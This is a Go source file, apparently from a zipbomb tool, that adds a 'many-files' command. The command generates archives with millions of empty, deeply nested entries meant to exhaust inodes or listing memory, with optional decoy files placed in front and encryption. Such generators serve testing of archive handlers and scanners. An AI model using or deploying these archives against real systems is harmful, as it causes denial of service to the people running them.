@@ -0,0 +1,130 @@
+package cmd
+
+import (
+	"fmt"
+	"os"
+	"time"
+
+	"github.com/hupe1980/zipbomb/pkg/zipbomb"
+	"github.com/spf13/cobra"
+	"github.com/vbauerster/mpb/v8"
+)
+
+type manyFilesOptions struct {
+	numFiles         int
+	depth            int
+	filenames        filenameOptions
+	archive          archiveOptions
+	verify           bool
+	decoys           []string
+	kernel           kernelOptions
+	compressionLevel int
+	method           string
+	encryption       encryptionOptions
+}
+
+func newManyFilesCmd(rootOpts *rootOptions) *cobra.Command {
+	opts := &manyFilesOptions{}
+	cmd := &cobra.Command{
+		Use:   "many-files",
+		Short: "Create an entry-count bomb with millions of empty files",
+		Long:  "Create a small archive with millions of tiny or empty entries in deep directories that exhausts inodes or directory-listing memory",
+		Example: `- zipbomb many-files -N 10000000
+- zipbomb many-files --depth 64 --kernel-bytes 00 --kernel-repeats 16`,
+		SilenceUsage:  true,
+		SilenceErrors: true,
+		RunE: func(cmd *cobra.Command, args []string) error {
+			method, err := zipbomb.ParseMethod(opts.method)
+			if err != nil {
+				return err
+			}
+
+			filenameGen, err := opts.filenames.generator(cmd.Flags(), opts.numFiles)
+			if err != nil {
+				return err
+			}
+
+			encryption, err := opts.encryption.options()
+			if err != nil {
+				return err
+			}
+
+			archiveOpts, err := opts.archive.options()
+			if err != nil {
+				return err
+			}
+
+			kb, err := opts.kernel.kernel()
+			if err != nil {
+				return err
+			}
+
+			creatingStart := time.Now()
+
+			p := mpb.New(mpb.ContainerOptional(mpb.WithOutput(os.Stderr), true))
+
+			archive, err := createOutput(rootOpts.output, opts.verify)
+			if err != nil {
+				return err
+			}
+
+			defer archive.Close()
+
+			bar := newProgressBar(p, fmt.Sprintf("[i] Creating %s", archive.Name()), int64(opts.numFiles))
+
+			zbomb, err := zipbomb.New(archive, archiveOpts)
+			if err != nil {
+				return err
+			}
+
+			if err = addDecoys(zbomb, opts.decoys); err != nil {
+				return err
+			}
+
+			if err = zbomb.AddManyFiles(kb, opts.numFiles, func(o *zipbomb.ManyFilesOptions) {
+				o.FilenameGen = filenameGen
+				o.CompressionLevel = opts.compressionLevel
+				o.Method = method
+				o.Depth = opts.depth
+				o.EncryptionOptions = encryption
+				o.OnFileCreateHook = func(name string) {
+					bar.Increment()
+				}
+			}); err != nil {
+				return err
+			}
+
+			if err = zbomb.Close(); err != nil {
+				return err
+			}
+
+			p.Wait()
+
+			creatingEnd := time.Now()
+
+			rep := newReport(cmd, archive.Name(), creatingEnd.Sub(creatingStart), zbomb.Report())
+
+			if opts.verify {
+				if err = verifyArchive(rep, archive.Path(), false); err != nil {
+					return err
+				}
+			}
+
+			return printReport(rootOpts, rep)
+		},
+	}
+
+	cmd.Flags().IntVarP(&opts.numFiles, "num-files", "N", 1000000, "number of files")
+	cmd.Flags().IntVarP(&opts.depth, "depth", "", 16, "number of directories every file is nested in")
+	opts.filenames.addFlags(cmd.Flags())
+	opts.archive.addFlags(cmd.Flags())
+
+	cmd.Flags().BoolVarP(&opts.verify, "verify", "", false, "verify zip archive")
+	cmd.Flags().StringSliceVarP(&opts.decoys, "decoy", "", nil, "ordinary file added in front of the bomb")
+	opts.kernel.addFlags(cmd.Flags(), nil, 1)
+	cmd.Flags().IntVarP(&opts.compressionLevel, "compression-level", "L", 5, "compression-level [-2, 9], ignored for repeated --kernel-bytes unless 0 or -2")
+	cmd.Flags().StringVarP(&opts.method, "method", "M", "store", "compression method (deflate|bzip2|store)")
+	opts.encryption.addFlags(cmd.Flags())
+
+	return cmd
+}